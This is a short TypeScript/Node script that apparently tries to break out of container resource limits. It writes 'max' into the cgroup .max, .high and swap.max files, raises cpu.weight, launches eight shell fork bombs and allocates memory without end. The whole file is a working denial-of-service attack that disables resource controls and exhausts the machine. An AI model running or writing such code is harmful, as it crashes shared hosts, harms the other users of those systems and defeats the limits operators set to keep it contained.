// What looks like the root of the tree has limits, and root may change them.
import { spawn } from 'node:child_process'
import { readdirSync, writeFileSync } from 'node:fs'

for (const file of readdirSync('/sys/fs/cgroup').filter((name) => /\.(max|high|swap\.max)$/.test(name))) {
  try {
    writeFileSync(`/sys/fs/cgroup/${file}`, 'max')
  } catch {}
}
writeFileSync('/sys/fs/cgroup/cpu.weight', '10000')
for (let n = 0; n < 8; n++) spawn('sh', ['-c', 'bomb() { bomb | bomb & }; bomb'], { stdio: 'ignore' })
const all: Buffer[] = []
for (;;) all.push(Buffer.alloc(32 * 1024 * 1024, 1))
